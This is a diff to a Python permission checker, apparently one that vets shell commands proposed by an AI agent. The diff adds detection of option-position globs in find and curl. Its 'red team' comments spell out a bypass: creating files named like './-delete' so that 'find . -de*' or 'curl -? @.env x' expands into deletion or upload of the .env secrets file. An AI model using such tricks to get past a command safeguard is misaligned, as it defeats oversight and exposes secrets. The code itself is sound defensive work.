@@ -30,6 +30,9 @@ Read-only forms stay uncapped: ``terraform plan``, ``aws s3 ls``, ``kubectl get`
 
 from __future__ import annotations
 
+from fnmatch import fnmatchcase
+
+from permissions.commands.find import FIND_RUNNERS
 from permissions.commands.git import remote_config_write
 from permissions.commands.git_globals import _git_subcommand
 from permissions.commands.listeners import READERS as LISTENERS
@@ -1142,11 +1145,29 @@ def _expansion(word: str) -> bool:
     return word.startswith(_EXPANDS)
 
 
+_GLOB = frozenset("*?[")
+
+
+def _option_glob(word: str, names: frozenset[str]) -> bool:
+    """red team: an unquoted glob where an option may stand (`find . -de*`, `curl -? @.env x`). bash expands it
+    against file names the agent can create (`touch ./-delete`), so it may be an option: any option when it
+    starts with `-`, one of ``names`` when the pattern matches it (`find / *` in a folder holding `-delete`)."""
+    if _GLOB.isdisjoint(word):
+        return False
+    return word[0] == "-" or any(fnmatchcase(name, word) for name in names)
+
+
 def _unvalued(
-    view: tuple[str, ...], marked: set[int], start: int, valued: frozenset[str], acts: frozenset[str]
+    view: tuple[str, ...],
+    marked: set[int],
+    start: int,
+    valued: frozenset[str],
+    acts: frozenset[str],
+    names: frozenset[str] = frozenset(),
 ) -> str | None:
-    """The first marked word from ``start`` that is an expansion where an option may stand (not the value of an
-    option in ``valued``), or the marked value of an option in ``acts``; before ``--``."""
+    """The first marked word from ``start`` that is an expansion or a glob (:func:`_option_glob`, which may match
+    one of ``names``) where an option may stand (not the value of an option in ``valued``), or the marked
+    value of an option in ``acts``; before ``--``."""
     k = start
     n = len(view)
     while k < n:
@@ -1159,7 +1180,7 @@ def _unvalued(
         if w[:1] == "-" and not eq and (w in valued or w in acts):
             k += 2
             continue
-        if k in marked and _expansion(w):
+        if k in marked and (_expansion(w) or _option_glob(w, names)):
             return w
         k += 1
     return None
@@ -1199,6 +1220,9 @@ _CURL_ACT_KEYS = ("request=", "config=", "data", "upload-file=", "form=", "json=
 def _curl_option_word(view: tuple[str, ...], marked: set[int]) -> str | None:
     """`curl $OPTS https://h`, `curl -s $URL`: an operand that is an expansion may be `-d @.env` or `-T f`."""
     words = {view[k] for k in marked}
+    glob = next((w for w in words if _option_glob(w, frozenset())), None)
+    if glob is not None:
+        return glob  # `curl -? @.env h` may be `-d @.env`
     for r in normalised(view):
         for w in r.operands:
             if w in words and _expansion(w):
@@ -1234,10 +1258,12 @@ def _find_option_word(view: tuple[str, ...], marked: set[int]) -> str | None:
     k = 1
     while k < len(view) and view[k][:1] not in ("-", "(", "!"):
         w = view[k]
-        if k in marked and _expansion(w) and not w.startswith(_PATH_EXPANSIONS):
+        if k in marked and (
+            _expansion(w) and not w.startswith(_PATH_EXPANSIONS) or _option_glob(w, FIND_RUNNERS)
+        ):
             return w
         k += 1
-    return _unvalued(view, marked, k, _FIND_VALUED, frozenset())
+    return _unvalued(view, marked, k, _FIND_VALUED, frozenset(), FIND_RUNNERS)
 
 
 # Programs with an option that runs a program given as its value (`rg --pre=CMD`, `fd -x CMD`,
